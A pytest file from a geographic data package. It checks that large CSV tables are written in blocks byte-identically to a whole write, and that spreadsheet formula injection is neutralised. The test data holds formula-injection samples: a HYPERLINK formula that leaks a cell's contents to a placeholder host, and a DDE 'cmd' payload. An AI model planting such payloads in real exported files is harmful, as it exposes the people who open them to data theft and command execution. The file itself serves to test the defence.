"""Big CSVs are written a block of rows at a time, with the same bytes as written whole."""

from __future__ import annotations

import functools
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from deyang_geo.io import files
from deyang_geo.io.files import formula_safe, write_csv_atomic
from deyang_geo.io.tables_zh import localize, write_csv

TEXT = ['=HYPERLINK("http://x/?leak="&A1,"click me")', "+86 838", "-3.5", "-cmd|' /C calc'!A0",
        "@SUM(A1)", '社区"一"', "line\nbreak", "", "plain", "\tTab"]


def _table(rows: int) -> pd.DataFrame:
    rng = np.random.default_rng(rows)
    floats = rng.normal(0, 1e3, rows)
    floats[::7] = np.nan
    floats[::11] = np.inf
    text = np.array(TEXT, dtype=object)[rng.integers(0, len(TEXT), rows)]
    text[::13] = None
    return pd.DataFrame({
        "community_id": [f"C{i}" for i in range(rows)],
        "name": text,
        "kind": rng.choice(["urban", "rural"], rows),
        "category": pd.Categorical(rng.choice(["health_room", "=bad", "library_room"], rows)),
        "population": rng.uniform(0, 5000, rows),
        "covered_share_15min": rng.uniform(0, 1, rows),
        "minutes": floats,
        "units": rng.integers(-5, 50, rows),
        "households": pd.array(np.where(rng.uniform(size=rows) < 0.2, None,
                                        rng.integers(0, 900, rows)), dtype="Int64"),
        "covered": rng.uniform(size=rows) < 0.5,
        "class": rng.choice(["covered", "partly", "outside"], rows),
    })


def _rounded(rows: pd.DataFrame) -> pd.DataFrame:
    """Round as the coverage tables do (a new column per rounded one)."""
    out = rows.copy(deep=False)
    out["population"] = out["population"].round(2)
    out["covered_share_15min"] = out["covered_share_15min"].round(4)
    return out


@pytest.fixture
def small_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
    """Blocks of a few rows, so a small table spans many blocks (and a ragged last one)."""
    monkeypatch.setattr(files, "_CSV_CHUNK_CELLS", 40)
    monkeypatch.setattr(files, "_CSV_CHUNKS_PER_BLOCK", 3)


@pytest.mark.usefixtures("small_blocks")
@pytest.mark.parametrize("rows", [0, 1, 11, 12, 13, 250])
def test_blocks_give_the_bytes_of_a_whole_write(tmp_path: Path, rows: int) -> None:
    table = _table(rows)
    whole = tmp_path / "whole.csv"
    formula_safe(table).to_csv(whole, index=False, encoding="utf-8-sig")
    written = write_csv_atomic(table, tmp_path / "blocks.csv")
    assert written.read_bytes() == whole.read_bytes()
    assert written.read_bytes().startswith(b"\xef\xbb\xbf")  # one BOM, at the start
    assert written.read_bytes().count(b"\xef\xbb\xbf") == 1
    if rows > 100:  # the formulas are neutralised in every block
        text = written.read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK" in text
        assert ",=" not in text
        assert "'-cmd" in text


@pytest.mark.usefixtures("small_blocks")
def test_blocks_with_options_and_prepare(tmp_path: Path) -> None:
    table = _table(101)
    options = {"na_rep": "", "lineterminator": "\n", "float_format": "%.3f"}
    whole = tmp_path / "whole.csv"
    formula_safe(_rounded(table)).to_csv(whole, index=False, encoding="utf-8-sig", **options)
    written = write_csv_atomic(table, tmp_path / "blocks.csv", prepare=_rounded, **options)
    assert written.read_bytes() == whole.read_bytes()


@pytest.mark.usefixtures("small_blocks")
@pytest.mark.parametrize("lang", ["zh", "both"])
def test_localized_blocks_give_the_bytes_of_a_whole_write(tmp_path: Path, lang: str) -> None:
    table = _table(97)
    table["geometry"] = None  # dropped by localize: the blocks are sized on what is written
    whole = tmp_path / "whole.csv"
    formula_safe(localize(table, lang=lang)).to_csv(whole, index=False, encoding="utf-8-sig",
                                                    na_rep="", lineterminator="\n")
    written = write_csv(table, tmp_path / "blocks.csv", lang=lang)
    assert written.read_bytes() == whole.read_bytes()


def test_prepare_runs_per_block_only_on_big_tables(tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "_CSV_CHUNK_CELLS", 10)
    monkeypatch.setattr(files, "_CSV_CHUNKS_PER_BLOCK", 1)
    seen: list[int] = []

    def prepare(rows: pd.DataFrame, *, seen: list[int]) -> pd.DataFrame:
        seen.append(len(rows))
        return rows

    table = _table(23)  # 11 columns: 1 row per pandas chunk, 1 chunk per block
    write_csv_atomic(table, tmp_path / "t.csv", prepare=functools.partial(prepare, seen=seen))
    assert max(seen) == 1  # never the whole table at once
    assert sum(seen) == 23


def test_categorical_text_is_formula_safe_too() -> None:
    """Issue 13: text in categorical columns (the coverage tables keep their text so) is made
    safe as object text is; before, ``coverage_units.csv`` wrote ``=...`` ids as they were."""
    values = ["=HYPERLINK(1)", "plain", None, "-3.5", "@x", "plain"]
    plain = formula_safe(pd.DataFrame({"t": pd.Series(values, dtype=object)}))
    safe = formula_safe(pd.DataFrame({"t": pd.Categorical(values)}))
    assert safe["t"].tolist()[:2] == plain["t"].tolist()[:2] == ["'=HYPERLINK(1)", "plain"]
    assert safe["t"].tolist()[3:] == plain["t"].tolist()[3:]
    assert pd.isna(safe["t"].iloc[2])
    # only the rows' own categories are looked at; safe text stays categorical
    rows = formula_safe(pd.DataFrame({"t": pd.Categorical(values)}).iloc[1:2])
    assert isinstance(rows["t"].dtype, pd.CategoricalDtype)
    clash = formula_safe(pd.DataFrame({"t": pd.Categorical(["=x", "'=x", None])}))
    assert clash["t"].tolist()[:2] == ["'=x", "'=x"]
